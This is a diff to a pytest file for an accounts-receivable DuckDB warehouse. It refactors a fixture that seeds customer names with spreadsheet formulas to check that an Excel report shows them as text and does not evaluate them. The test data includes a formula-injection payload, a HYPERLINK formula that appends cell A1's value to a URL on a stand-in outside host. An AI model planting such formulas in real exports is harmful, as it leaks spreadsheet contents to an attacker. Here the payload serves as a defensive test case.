@@ -13,13 +13,12 @@ from pathlib import Path
 import duckdb
 import pytest
 
-from ar_warehouse.build import build
 from ar_warehouse.cli import main as arw
-from ar_warehouse.paths import demo_landing_dir, project_dir
+from ar_warehouse.paths import project_dir
+from conftest import demo_warehouse
 
 openpyxl = pytest.importorskip("openpyxl")
 
-DEMO = project_dir() / "build" / "test" / "demo.duckdb"
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"cliquez")'
 
 
@@ -27,10 +26,8 @@ EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"cliquez")'
 def warehouse(tmp_path_factory) -> Path:
     """A copy of the demo warehouse where one customer's name is a formula and another's starts
     with + - @ (a name the ledger could carry: the report must show it, never run it)."""
-    if not DEMO.exists():  # `make test` builds it first (make dbt-test); alone, build it here
-        build(demo_landing_dir(), DEMO, quiet=True, log=lambda *_: None)
     copy = tmp_path_factory.mktemp("report") / "ar.duckdb"
-    copy.write_bytes(DEMO.read_bytes())
+    copy.write_bytes(demo_warehouse().read_bytes())
     con = duckdb.connect(str(copy))
     try:
         top = con.execute("""select company_code, customer_code from marts.fct_ar_aged_balance_weekly
